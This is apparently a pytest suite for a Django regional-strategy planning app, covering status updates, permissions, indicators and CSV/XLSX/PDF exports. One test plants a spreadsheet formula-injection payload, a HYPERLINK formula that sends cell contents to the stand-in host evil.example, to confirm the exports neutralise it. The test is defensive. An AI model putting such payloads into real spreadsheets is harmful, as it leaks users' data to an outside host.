import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from optiimi.accounts.models import ApiToken
from optiimi.core.writes import System
from optiimi.network import services as network
from optiimi.strategy import services
from optiimi.strategy.models import IndicatorValue
from tests import factories

SETUP = System("test setup")


@pytest.mark.django_db
def test_owner_changes_status_and_it_shows_in_history(owner_client, plan):
    measure = plan["measure"]
    response = owner_client.post(
        reverse("strategy:measure_update", args=[measure.pk]),
        {"status": "ongoing", "note": "Kaksi seutua aloitti."},
    )
    assert response.status_code == 302
    page = owner_client.get(measure.get_absolute_url()).content.decode()
    assert "Kaksi seutua aloitti." in page
    history = page.split('class="card history"')[1]
    assert "owner" in history
    assert "planned" in history.lower() or "suunniteltu" in history


@pytest.mark.django_db
def test_another_organisations_editor_gets_403_on_page_and_api(outsider_client, outsider, plan):
    measure = plan["measure"]
    page = outsider_client.post(
        reverse("strategy:measure_update", args=[measure.pk]), {"status": "done"}
    )
    assert page.status_code == 403
    token = ApiToken.issue(outsider, "t")[1]
    api = outsider_client.patch(
        f"/api/v1/plan/measures/{measure.pk}",
        {"status": "done"},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert api.status_code == 403
    measure.refresh_from_db()
    assert measure.status == "planned"


@pytest.mark.django_db
def test_owner_updates_status_through_the_api(client, owner, plan):
    token = ApiToken.issue(owner, "t")[1]
    response = client.patch(
        f"/api/v1/plan/measures/{plan['measure'].pk}",
        {"status": "done", "note": "Valmis."},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == 200, response.content
    assert response.json()["status"] == "done"
    assert plan["measure"].notes.get().text == "Valmis."


@pytest.mark.django_db
def test_future_dated_note_is_refused(owner_client, plan):
    tomorrow = timezone.localdate() + datetime.timedelta(days=2)
    response = owner_client.post(
        reverse("strategy:measure_update", args=[plan["measure"].pk]),
        {"status": "ongoing", "note": "x", "date": tomorrow.isoformat()},
    )
    assert response.status_code == 422
    assert not plan["measure"].notes.exists()


@pytest.mark.django_db
def test_owner_enters_a_value_and_it_needs_a_source(owner_client, plan):
    url = reverse("strategy:indicator_value", args=["strategies"])
    refused = owner_client.post(url, {"year": 2008, "value": 4, "source": ""})
    assert refused.status_code == 422
    assert owner_client.post(url, {"year": 2008, "value": 4, "source": "kysely"}).status_code == 302
    assert IndicatorValue.objects.get(indicator__code="strategies", year=2008).value == 4
    owner_client.post(url, {"year": 2008, "value": 5, "source": "korjattu"})
    value = IndicatorValue.objects.get(indicator__code="strategies", year=2008)
    assert value.value == 5 and value.history.count() == 2


@pytest.mark.django_db
def test_computed_indicator_follows_its_underlying_data(plan, organisation, other_organisation):
    from optiimi.regions.models import Region

    services.refresh_computed(["active_members"], actor=SETUP)
    joutsa = Region.objects.get(level="seutukunta", code="132")
    this_year = timezone.localdate().year

    def joutsa_now():
        return IndicatorValue.objects.get(
            indicator__code="active_members", year=this_year, region=joutsa
        )

    assert joutsa_now().value == 1 and joutsa_now().computed_at is not None
    network.update_organisation(other_organisation, actor=SETUP, sub_regions=[joutsa])
    summary = services.refresh_computed(["active_members"], actor=SETUP)
    assert joutsa_now().value == 2 and summary.changed >= 1
    network.update_organisation(
        organisation, actor=SETUP, member_until=datetime.date(this_year - 1, 12, 31)
    )
    services.refresh_computed(actor=SETUP)
    assert joutsa_now().value == 1


@pytest.mark.django_db
def test_computed_values_cannot_be_entered_by_hand(coordinator_client, plan):
    response = coordinator_client.post(
        reverse("strategy:indicator_value", args=["active_members"]),
        {"year": 2008, "value": 3, "source": "x"},
    )
    assert response.status_code == 403


@pytest.mark.django_db
def test_refresh_command_lists_and_recomputes(plan):
    out = io.StringIO()
    call_command("indicators", "list", stdout=out)
    assert "network.active_members" in out.getvalue() and "active_members" in out.getvalue()
    out = io.StringIO()
    call_command("indicators", "refresh", stdout=out)
    assert "1 computed indicator(s)" in out.getvalue()
    assert IndicatorValue.objects.filter(indicator__code="active_members").exists()


@pytest.mark.django_db
def test_board_pack_lists_results_and_critical_factors_with_charts(client):
    period = factories.phase()
    factories.report(period, results=4, factors=3, lessons=2)
    html = client.get("/plan/2004-2006/board/").content.decode()
    results, factors = html.split('id="factors-h"')
    factors, lessons = factors.split('id="lessons-h"')
    assert results.count("<li value=") == 4 and "Tulos 4" in results
    assert factors.count("<li value=") == 3 and "Tekijä 3" in factors
    assert "Oppi 2" in lessons and "Tulos" not in factors
    # The two results followed by indicators carry one chart each.
    assert html.count("<polyline") == 2 and 'role="img"' in html
    assert "Strategiat" in html and "Pilotit" in html


@pytest.mark.django_db
def test_old_report_links_lead_to_the_board_pack(client):
    factories.report(factories.phase())
    assert client.get("/plan/2004-2006/report/")["Location"] == "/plan/2004-2006/board/"
    response = client.get("/plan/2004-2006/report.pdf?region=132")
    assert response["Location"] == "/plan/2004-2006/board.pdf?region=132"


@pytest.mark.django_db
def test_board_pack_downloads_as_pdf(client):
    from optiimi.strategy.exports import pdf_available

    if not pdf_available():
        pytest.skip("WeasyPrint cannot load its Pango library here")
    factories.report(factories.phase())
    response = client.get("/plan/2004-2006/board.pdf")
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


@pytest.mark.django_db
def test_plan_exports_as_csv_and_xlsx(client, plan):
    csv_text = client.get("/plan/2007-2009/plan.csv").content.decode("utf-8-sig")
    assert "Seutustrategiatyö" in csv_text and "Seutustrategiat" in csv_text
    book = load_workbook(io.BytesIO(client.get("/plan/2007-2009/plan.xlsx").content))
    rows = list(book.active.values)
    assert len(rows) == 3  # header, one indicator row, one measure without indicator
    assert rows[1][2] == "1.1"


@pytest.mark.django_db
def test_anonymous_reads_only_what_is_public(client, member_client, plan):
    services.define_period(
        actor=SETUP,
        code="sisainen",
        name_fi="Sisäinen",
        kind="current",
        start_year=2025,
        end_year=2027,
        public=False,
    )
    assert client.get("/plan/sisainen/").status_code == 404
    assert member_client.get("/plan/sisainen/").status_code == 200
    codes = [p["code"] for p in client.get("/api/v1/plan/periods").json()]
    assert codes == ["2007-2009"]


@pytest.mark.django_db
def test_plan_page_shows_progress_in_words(client, plan):
    services.set_value(plan["indicator"], 2009, 6, actor=SETUP, source="seuranta")
    html = client.get("/plan/2007-2009/").content.decode()
    assert "light-on_track" in html
    assert "aikataulussa" in html or "on track" in html


@pytest.mark.django_db
def test_matrix_shows_missing_perspectives(client, plan):
    html = client.get("/plan/2007-2009/matrix/").content.decode()
    assert html.count("<tr>") >= 7  # header + six sub-regions
    assert "missing" in html or "puuttuu" in html


@pytest.mark.django_db
def test_plan_page_query_count_is_bounded(client, plan, django_assert_num_queries):
    for n in range(3, 12):
        services.define_measure(
            plan["goal"],
            f"1.{n}",
            actor=SETUP,
            title_fi=f"T{n}",
            responsible=[plan["measure"].responsible.get()],
        )
    with django_assert_num_queries(12):
        response = client.get("/plan/2007-2009/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Seutustrategiatyö" in page and all(f"T{n}" in page for n in range(3, 12))


@pytest.mark.django_db
def test_plan_exports_run_no_formulas(client, plan):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    services.define_measure(
        plan["goal"], "1.3", actor=System("test"), title_fi=payload, responsible=[], business=True
    )
    services.define_indicator(
        "strategies",
        actor=System("test"),
        source="@SUM(1+1)",
        baseline=-2,
        measures=[plan["measure"]],
    )
    csv_rows = list(
        csv.reader(io.StringIO(client.get("/plan/2007-2009/plan.csv").content.decode("utf-8-sig")))
    )
    cells = [cell for row in csv_rows for cell in row]
    assert "'" + payload in cells and "'@SUM(1+1)" in cells
    assert payload not in cells and "-2.0" in cells  # the baseline, a number
    book = load_workbook(io.BytesIO(client.get("/plan/2007-2009/plan.xlsx").content))
    xlsx_cells = [cell for row in book.active.iter_rows() for cell in row]
    formula = next(c for c in xlsx_cells if c.value == payload)
    assert formula.data_type == "s" and formula.quotePrefix
    assert not any(c.data_type == "f" for c in xlsx_cells)
    assert any(c.value == -2 and c.data_type == "n" for c in xlsx_cells)


@pytest.mark.django_db
def test_a_signed_in_reader_gets_the_board_pack_pdf_from_its_job_page(coordinator_client):
    from optiimi.strategy.exports import pdf_available

    factories.report(factories.phase())
    response = coordinator_client.get("/plan/2004-2006/board.pdf?region=132")
    assert response.status_code == 302 and response["Location"].startswith("/jobs/")
    page = coordinator_client.get(response["Location"]).content.decode()
    if not pdf_available():
        assert "PDF" in page and "job-failed" in page
        return
    assert "job-done" in page and "optiimi-2004-2006-132-fi.pdf" in page
    download = coordinator_client.get(response["Location"] + "file/")
    assert download["Content-Type"] == "application/pdf"
    assert download.content.startswith(b"%PDF")
    assert 'filename="optiimi-2004-2006-132-fi.pdf"' in download["Content-Disposition"]
